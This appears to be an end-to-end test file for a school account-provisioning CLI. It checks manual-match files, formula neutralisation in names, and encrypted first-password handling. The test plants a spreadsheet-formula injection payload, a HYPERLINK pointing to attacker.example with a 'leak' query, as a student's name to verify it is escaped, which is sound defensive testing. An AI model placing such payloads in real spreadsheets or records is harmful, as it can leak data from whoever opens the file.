// `rollcall match` and `rollcall passwords open`, end to end through the built CLI on the local tenant: the match
// file is committed as it is and links people on the next plan; names from the MIS that hold a spreadsheet formula
// are written as text; first passwords are written encrypted, their path printed, and opened with the school's key.
import { spawnSync } from 'node:child_process';
import { mkdtemp, readdir, readFile, stat, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { generateIdentity, identityToRecipient } from 'age-encryption';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parseManualMatches } from '../../src/engine/manual-matches.js';
import { generateSchool, writeSchool } from '../support/synth/index.js';

const root = path.resolve(import.meta.dirname, '../..');
const AS_OF = '2026-11-23';
const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","Ava")';

function rollcall(cwd: string, args: string[], env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [path.join(root, 'bin/rollcall.js'), ...args], { cwd, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', ...env }, maxBuffer: 64 << 20 });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

const config = (extra = '') => `version: 1
school: { name: Match Academy, key: ma, timeZone: Europe/London }
source: { csv: { dir: ./mis } }
tenant:
  local: { state: .rollcall/tenant.json }
  domains: [ma.example, students.ma.example]
  education: false
users:
  mode: create
  match: [anchor, manual]
  students:
    userPrincipalName: "{first:1}{last}@students.ma.example"
    displayName: "{preferredFirst} {preferredLast}"
  staff:
    userPrincipalName: "{first:1}{last}@ma.example"
${extra}`;

/** A school whose first student's preferred first name is a spreadsheet formula. */
async function school(students: number, extra = '') {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'rollcall-match-'));
  const s = generateSchool({ seed: 5, students, staff: 4, asOf: AS_OF, lessonDays: 1 });
  const first = s.people.find((p) => p.kind === 'student')!;
  first.preferred = { ...first.preferred, first: HYPERLINK };
  // Nobody starts or leaves around the date the test plans for.
  s.people = s.people.map(({ startDate: _s, endDate: _e, ...p }) => p as typeof p);
  await writeSchool(s, 'csv', path.join(dir, 'mis'));
  await writeFile(path.join(dir, 'rollcall.yaml'), config(extra));
  return { dir, school: s, first };
}

interface StateUser { userPrincipalName: string; employeeId?: string | null }
interface Plan { changes: { key: string; kind: string; action: string }[]; unsynced: { person?: string; reason: string }[] }

describe('rollcall match', () => {
  it('writes a manual-match file that is committed as it is, links the people on the next plan, and neutralises formulas in names', async () => {
    const { dir, school: s, first } = await school(10);
    expect(rollcall(dir, ['apply', '--as-of', AS_OF]).status).toBe(0);
    // The school's accounts existed before rollcall: five students' accounts carry no anchor.
    const stateFile = path.join(dir, '.rollcall/tenant.json');
    const state = JSON.parse(await readFile(stateFile, 'utf8')) as { users: { props: StateUser }[] };
    const unlinked: string[] = s.people.filter((p) => p.kind === 'student').slice(0, 5).map((p) => p.id);
    const anchors = new Set(unlinked.map((id) => `ma:s${id.slice('student:'.length)}`));
    for (const u of state.users) if (anchors.has(u.props.employeeId ?? '')) delete u.props.employeeId;
    await writeFile(stateFile, JSON.stringify(state));
    expect(state.users.filter((u) => !u.props.employeeId)).toHaveLength(5);

    const before = JSON.parse(rollcall(dir, ['plan', '--format', 'json', '--as-of', AS_OF]).stdout) as Plan;
    expect(before.unsynced.filter((u) => unlinked.includes(u.person ?? '')).length).toBe(5);

    const match = rollcall(dir, ['match', '--as-of', AS_OF]);
    expect(match.status, match.stderr).toBe(0);
    const file = path.join(dir, 'matches/suggested-users.csv');
    const text = await readFile(file, 'utf8');
    expect(match.stderr).toContain('matches/suggested-users.csv');

    // Exactly the manual-match format: the reader takes it unchanged, and it names no one.
    const rows = parseManualMatches(text, file);
    expect(rows.map((r) => r.misId).sort()).toEqual([...unlinked].sort());
    expect(text.split('\n')[0]).toBe('misId,userPrincipalName');
    for (const p of s.people) expect(text).not.toContain(p.legal.last);
    expect(text).not.toContain('HYPERLINK');

    // The review sheet has the names, and a formula in one is text in every spreadsheet.
    const review = await readFile(path.join(dir, '.rollcall/match-review.csv'), 'utf8');
    const cells = (parse(review) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells.filter((c) => c.includes('HYPERLINK')).every((c) => c.startsWith("'="))).toBe(true);
    expect(cells.some((c) => c.startsWith(`'${HYPERLINK}`))).toBe(true);
    const sheet = parse(review, { columns: true }) as Record<string, string>[];
    expect(sheet.find((r) => r.misId === first.id)?.confidence).toBe('likely');

    // Committed as it is: the next plan links the five (their anchors written), creating no one.
    await writeFile(path.join(dir, 'rollcall.yaml'), config().replace('  match: [anchor, manual]\n', '  match: [anchor, manual]\n  manualMatches: matches/suggested-users.csv\n'));
    const after = JSON.parse(rollcall(dir, ['plan', '--format', 'json', '--as-of', AS_OF]).stdout) as Plan;
    expect(after.unsynced.filter((u) => unlinked.includes(u.person ?? ''))).toEqual([]);
    expect(after.changes.filter((c) => c.kind === 'user' && c.action === 'create')).toEqual([]);
    expect(after.changes.filter((c) => c.kind === 'user' && c.action === 'update').map((c) => c.key).sort()).toEqual(unlinked.map((id) => `user:${id}`).sort());
  }, 120_000);
});

describe('rollcall passwords open', () => {
  it('opens the file apply wrote, with the identity file, to one slip per new account; refuses keys on the command line', async () => {
    const identity = await generateIdentity();
    const { dir, school: s, first } = await school(6, `  passwords: { recipient: ${await identityToRecipient(identity)}, students: { words: 2, digits: 2 } }\n`);
    const keyFile = path.join(dir, 'key.txt');
    await writeFile(keyFile, `# created: 2026-11-23T00:00:00Z\n# public key: ${await identityToRecipient(identity)}\n${identity}\n`);

    const apply = rollcall(dir, ['apply', '--as-of', AS_OF]);
    expect(apply.status, apply.stderr).toBe(0);
    const written = (await readdir(path.join(dir, '.rollcall'))).filter((f) => f.endsWith('.age'));
    expect(written).toHaveLength(1);
    const sealed = path.join(dir, '.rollcall', written[0]);
    expect(apply.stderr).toContain(`first passwords written, encrypted, to ${sealed}`);

    const open = rollcall(dir, ['passwords', 'open', sealed, '--identity', keyFile]);
    expect(open.status, open.stderr).toBe(0);
    const rows = parse(open.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.misId).sort()).toEqual(s.people.map((p) => p.id).sort());
    const slip = rows.find((r) => r.misId === first.id)!;
    expect(slip).toMatchObject({ name: `'${HYPERLINK} ${first.preferred.last ?? first.legal.last}`, yearGroup: first.yearGroup, registrationGroup: first.registrationGroup });
    expect(slip.userPrincipalName).toMatch(/@students\.ma\.example$/);
    expect(slip.password).toMatch(/^[A-Z][a-z]+-[A-Z][a-z]+-\d\d$/);

    // The same from the environment, and to a file only its owner can read, never over an existing one.
    const out = path.join(dir, 'slips.csv');
    const viaEnv = rollcall(dir, ['passwords', 'open', sealed, '--out', out], { ROLLCALL_AGE_IDENTITY: identity });
    expect(viaEnv.status, viaEnv.stderr).toBe(0);
    expect(await readFile(out, 'utf8')).toBe(open.stdout);
    expect((await stat(out)).mode & 0o077).toBe(0);
    const again = rollcall(dir, ['passwords', 'open', sealed, '--out', out], { ROLLCALL_AGE_IDENTITY: identity });
    expect(again.status).toBe(1);
    expect(again.stderr).toContain('it exists');

    // Mistakes get a sentence, never a stack trace.
    const onCommandLine = rollcall(dir, ['passwords', 'open', sealed, '--identity', identity]);
    expect(onCommandLine.status).toBe(1);
    expect(onCommandLine.stderr).toContain('not the key itself');
    expect(onCommandLine.stderr).not.toContain(identity);
    const otherKey = path.join(dir, 'other.txt');
    await writeFile(otherKey, `${await generateIdentity()}\n`);
    const wrong = rollcall(dir, ['passwords', 'open', sealed, '--identity', otherKey]);
    expect(wrong.status).toBe(1);
    expect(wrong.stderr).toContain('was not encrypted to');
    const none = rollcall(dir, ['passwords', 'open', sealed]);
    expect(none.status).toBe(1);
    expect(none.stderr).toContain('--identity KEY-FILE');
    for (const r of [onCommandLine, wrong, none, again]) expect(r.stderr).not.toMatch(/\n\s+at /);
  }, 120_000);

  it('validate refuses the example key with its file and line', async () => {
    const { dir } = await school(2, '  passwords:\n    recipient: age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n');
    const r = rollcall(dir, ['validate']);
    expect(r.status).toBe(1);
    const line = (await readFile(path.join(dir, 'rollcall.yaml'), 'utf8')).split('\n').findIndex((l) => l.includes('recipient:')) + 1;
    expect(r.stderr).toMatch(new RegExp(`rollcall\\.yaml:${line}:\\d+\\s+users\\.passwords\\.recipient\\s+age1ql3z7hjy…`));
    expect(r.stderr).toContain('not your school\'s');
  });
});
